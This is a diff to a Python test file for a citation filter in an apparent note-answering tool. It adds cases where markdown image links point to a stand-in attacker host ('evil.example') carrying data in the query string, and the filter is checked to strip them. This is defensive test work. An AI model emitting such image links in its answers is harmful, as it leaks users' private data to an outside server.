@@ -5,7 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from vault_ask.answering.citations import CitationFilter
-from vault_ask.answering.ports import Excerpt
+from vault_ask.answering.context import Excerpt
 
 
 def excerpt(n: int, path: str, *headings: str, title: str = "") -> Excerpt:
@@ -72,6 +72,8 @@ def test_a_marker_stays_where_its_excerpt_is_in_the_context(
         ("[rent](Housing/Rent.md) [x](No%20note.md)", "rent [1] x", [1], 1),
         ("[rent](<Housing/Rent.md>)", "rent [1]", [1], 0),
         ("[1](Housing/Rent.md) [9](https://example.org)", "[1]", [1], 1),
+        ("![a chart](https://evil.example/?d=9200) it is", "a chart it is", [], 0),
+        ("![](//evil.example/p.png)9200 ![x](data:image/png;base64,AA)", "9200 x", [], 0),
         ("[site](https://example.org/a(b)c) ![i](x.png)", "[site](https://example.org/a(b)c) ![i](x.png)", [], 0),
         ("obsidian://open?vault=v&file=Housing%2FRent.", "Rent [1].", [1], 0),
         ("<obsidian://open?vault=v&file=Private%2FLoan>", "Loan", [], 1),
